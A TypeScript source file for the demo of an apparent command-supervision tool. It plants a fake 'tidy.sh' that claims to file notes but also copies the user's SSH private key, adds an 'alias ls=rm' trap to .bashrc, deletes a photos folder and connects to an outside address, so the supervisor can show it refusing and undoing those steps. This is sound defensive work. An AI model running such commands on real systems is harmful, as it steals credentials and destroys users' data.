import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { sayAction, visible } from "@assent/core/action";
import type { Machine } from "@assent/guard/state";
import { superviseRun, type RunEvent } from "@assent/supervisor/supervise";
import { findRun, prepareUndo, runsFolder, undoRun } from "@assent/supervisor/supervise/undo";
import { engine } from "@assent/page/preview";
import type { TerminalStyle } from "./style.ts";
import { fit } from "./style.ts";
import { writeStdout } from "./stdio.ts";

/** What it says it does, and what else it does. `$0` is node, for a connection without any client installed. */
const SCRIPT = `#!/bin/sh
# tidy.sh: puts notes into a folder
mkdir notes
mv *.txt notes/
rm draft.tmp
echo 'tidied' > report.md
exec 2> /dev/null
cat ../.ssh/id_rsa > stolen
echo 'alias ls=rm' >> ../.bashrc
rm -r ../photos
"$NODE" -e 'require("net").connect(443, "203.0.113.7").on("error", () => process.exit(1))'
`;

const FILES: readonly (readonly [path: string, text: string])[] = [
  ["shop/tidy.sh", SCRIPT],
  ["shop/monday.txt", "call Ada\n"],
  ["shop/tuesday.txt", "call Grace\n"],
  ["shop/draft.tmp", "half a thought\n"],
  ["photos/holiday.jpg", "not a real picture\n"],
];

/** A small real program in the scratch folder, supervised: what it was refused, and what it did taken back. */
export async function superviseDemo(machine: Machine, project: string, style: TerminalStyle): Promise<void> {
  const { home } = machine;
  mkdirSync(join(home, "photos"), { recursive: true });
  for (const [path, text] of FILES) writeFileSync(join(home, path), text);
  writeStdout(`\n${style.bold("A real program, supervised: `assent run -P -- sh tidy.sh`")}\n`);
  writeStdout(style.dim("  tidy.sh puts notes into a folder, and tries more than it says\n"));

  const events: RunEvent[] = [];
  const notices: string[] = [];
  let id: string;
  const before = process.cwd();
  try {
    // The program starts where we are.
    process.chdir(project);
    const run = await superviseRun({
      argv: [realpathSync("/bin/sh"), "tidy.sh"],
      word: "sh",
      cwd: project,
      env: { PATH: machine.env["PATH"] ?? "/usr/bin:/bin", HOME: home, NODE: process.execPath },
      machine,
      policyFiles: [],
      approver: undefined,
      mode: "enforce",
      undo: true,
      onEvent: (event) => events.push(event),
      onNotice: (text) => notices.push(text),
      own: engine.own,
    });
    ({ id } = run);
  } catch (error) {
    // An old kernel, another supervisor around us, a system that is not Linux.
    const [why = ""] = (error instanceof Error ? error.message : String(error)).split("\n");
    writeStdout(`  nothing was run, because this machine cannot supervise: ${visible(why)} (\`assent doctor\` says more)\n`);
    return;
  } finally {
    process.chdir(before);
  }
  const short = (text: string): string => visible(text).replaceAll(`${project}/`, "").replaceAll(home, "~");
  const row = (told: "allow" | "deny", text: string, why: string): void =>
    writeStdout(`  ${style.verdict(told, fit(told === "allow" ? "did" : "refused", 7))}  ${fit(text, 38)}  ${style.dim(why)}\n`);
  for (const [text, when] of [
    ["moved *.txt to notes/", existsSync(join(project, "notes/monday.txt"))],
    ["deleted draft.tmp, wrote report.md", existsSync(join(project, "report.md"))],
  ] as const)
    if (when) row("allow", text, "");
  const told = new Set<string>();
  for (const { action, outcome, verdict } of events) {
    const text = short(sayAction(action));
    if (outcome !== "refused" || told.has(text)) continue;
    told.add(text);
    row("deny", text, fit(short(verdict.reason), Math.max(20, style.width - 51)).trimEnd());
  }
  for (const notice of notices) writeStdout(`  ${style.dim(short(notice))}\n`);
  takeBack(id, machine, project, style);
}

function takeBack(id: string, machine: Machine, project: string, style: TerminalStyle): void {
  const runs = runsFolder(machine);
  const run = findRun(runs, id, project, true);
  const options = { paths: [], force: false, now: Date.now() };
  const undone = "problem" in run ? undefined : undoRun(runs, prepareUndo([run], options), options);
  const back = FILES.filter(([path, text]) => {
    const file = join(machine.home, path);
    return existsSync(file) && readFileSync(file, "utf8") === text;
  });
  const whole = back.length === FILES.length && !existsSync(join(project, "report.md")) && !existsSync(join(project, "notes"));
  const result = whole ? "every file is back as it was" : `${back.length} of ${FILES.length} files are back`;
  writeStdout(
    `  ${style.verdict(whole ? "allow" : "ask", fit("undone", 7))}  ${fit("assent undo", 38)}  ${style.dim(`${undone?.done ?? 0} steps, ${result}`)}\n`,
  );
}
